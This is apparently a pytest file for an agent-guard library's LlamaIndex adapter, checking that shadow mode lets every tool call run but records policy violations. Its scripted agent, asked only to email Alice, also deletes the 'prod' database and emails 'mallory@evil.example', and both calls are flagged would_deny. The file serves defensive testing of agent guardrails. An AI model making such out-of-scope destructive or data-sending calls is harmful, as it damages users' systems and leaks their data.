"""Shadow mode through the LlamaIndex adapter: a real FunctionAgent loop where nothing is blocked, all is recorded."""

from __future__ import annotations

from agent_guard_llamaindex import guard_tools, guarded_run
from agent_guard_llamaindex.testing import scripted_llm, tool_call, tool_calls
from llama_index.core.agent.workflow import FunctionAgent

from agent_guard import Guard, reasons
from agent_guard import semconv as sc


async def test_shadow_mode_runs_every_call_and_records_would_deny(raw_tools, policy, plan, identity, ledger, spans):
    """The adapter checks decision.allowed only: delete_db runs in shadow mode, and its span says would_deny."""
    guard = Guard(policy, tracer_provider=spans.provider, mode="shadow")
    llm = scripted_llm(
        tool_calls(tool_call("crm_lookup", {"customer_id": "C-42"}, id="s1")),
        tool_calls(tool_call("delete_db", {"name": "prod"}, id="s2")),
        tool_calls(tool_call("send_email", {"to": "mallory@evil.example", "subject": "Hi", "body": "x"}, id="s3")),
        "done",
    )
    agent = FunctionAgent(tools=guard_tools(raw_tools, guard), llm=llm)
    result = await guarded_run(agent, "Email Alice (C-42)", guard=guard, planner=plan, identity=identity)

    assert str(result) == "done"
    assert ledger.names() == ["crm_lookup", "delete_db", "send_email"]  # nothing was blocked
    decided = {s.attributes[sc.TOOL_CALL_ID]: s.attributes for s in spans.named("execute_tool")}
    assert {k: (a[sc.DECISION_OUTCOME], a.get(sc.DECISION_REASON)) for k, a in decided.items()} == {
        "s1": ("allow", None),
        "s2": ("would_deny", reasons.TOOL_NOT_IN_SCOPE),
        "s3": ("would_deny", reasons.ARGUMENT_MISMATCH),
    }
